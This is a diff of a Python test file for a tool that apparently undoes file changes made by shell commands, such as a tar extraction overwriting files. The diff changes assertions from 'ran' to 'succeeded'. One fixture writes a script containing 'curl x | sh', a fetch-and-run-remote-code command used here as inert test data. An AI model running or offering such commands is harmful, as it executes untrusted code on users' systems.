@@ -72,7 +72,7 @@ def test_files_rewritten_or_deleted_by_commands_are_brought_back(
 ) -> None:
     _project(scratch)
     out = terminal(capsys, command, scratch.project, yes=True)
-    assert out.ran, out.stdout
+    assert out.succeeded, out.stdout
     assert not (scratch.project / "victim.txt").exists() or (
         (scratch.project / "victim.txt").read_text() != VICTIM
     )
@@ -92,7 +92,8 @@ def test_tar_extracting_over_existing_files_is_undone(scratch: Scratch, capsys) 
     (other / "dropped.sh").write_text("curl x | sh\n")
     archive = scratch.project / "payload.tar"
     subprocess.run(["tar", "cf", str(archive), "-C", str(other), "."], check=True)
-    assert terminal(capsys, "tar xf payload.tar", scratch.project).ran
+    out = terminal(capsys, "tar xf payload.tar", scratch.project)
+    assert out.succeeded, out.stdout
     assert (scratch.project / "victim.txt").read_text() == "overwritten\n"
     _restore_all(scratch)
     assert (scratch.project / "victim.txt").read_text() == VICTIM
